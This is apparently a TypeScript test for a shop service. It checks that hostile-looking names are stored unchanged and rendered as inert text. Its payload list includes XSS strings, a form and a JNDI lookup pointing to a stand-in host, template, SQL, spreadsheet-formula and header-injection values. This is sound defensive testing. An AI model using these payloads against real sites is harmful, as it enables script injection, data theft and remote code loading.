import t from 'tap';
import { createBasket } from '../support/journey.ts';
import { browserHeaders, visit } from '../support/service.ts';
import { openShop } from '../support/shop.ts';

/** Texts that are a program, an instruction or a trick somewhere else. */
const texts = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</title></main><form action=https://evil.example>',
  '&lt;b&gt; &amp;#60;',
  'javascript:alert(1)',
  '{{7*7}} #{7*7} <%= 7*7 %> $' + '{7*7}',
  '$' + '{jndi:ldap://evil.example/x}',
  '=cmd|calc!A1',
  "'; DROP TABLE baskets; --",
  '%s%n%00',
  '\u202egnp.exe',
  'zero\u200bwidth\ufeff',
  'line\r\nSet-Cookie: x=1\u2028\u2029\u0085',
  '\u001b[31mred',
  'Ｆｕｌｌ　ｗｉｄｔｈ ﷽ 👩‍👩‍👧 ẍ̧̛̛',
];
const tags = (page: string) => page.match(/<[^>]*>/g) ?? [];

const shop = await openShop(t);

/** Gives everything that a page shows this name, and the basket's customer, too. */
async function openNamed(name: string) {
  const put = async (path: string, body: object) => {
    const { status, body: shown, text } = await shop.owner.request<{ name: string }>('PATCH', path, body);
    if (status !== 200) throw new Error(text);
    return shown.name;
  };
  const names = [
    await put('/v1/shops/roxy', { name }),
    await put('/v1/events/evt-1', { name }),
    await put('/v1/items/stalls', { name }),
  ];
  const said = { customer: { name, username: name, usernameId: name }, custom: { [name]: [name] } };
  const line = { itemId: 'stalls', quantity: 1, variables: { [name]: name }, custom: { name } };
  const { id, startBasketUrl } = await createBasket(shop, { ...said, items: [line], linkMode: 'page' });
  const { body } = await shop.backEnd.request<Record<string, unknown>>('GET', `/v1/baskets/${id}`);
  const page = await visit(startBasketUrl, browserHeaders);
  return { names, said, line, basket: body, page };
}

t.test('a text that would be a program elsewhere is kept as it was sent, and is text on the page', async (t) => {
  const harmless = await openNamed('Stalls');
  for (const text of texts) {
    // As ASCII: the report of a test is a text, too.
    const what = encodeURIComponent(text);
    const { names, said, line, basket, page } = await openNamed(text);
    t.same(names, [text, text, text], what);
    t.match(basket, { ...said, items: [{ ...line, name: text }] }, what);
    t.same(basket.custom, said.custom, what);
    t.equal(page.status, 200, what);
    // Neither what is typed nor what is looked up in a table adds an element, an attribute or a header.
    t.same(tags(page.text).length, tags(harmless.page.text).length, what);
    t.notMatch(page.text, /<script|<img|onerror=alert\(1\)>|evil\.example>/, what);
    t.same(Object.keys(page.headers).sort(), Object.keys(harmless.page.headers).sort(), what);
  }
});
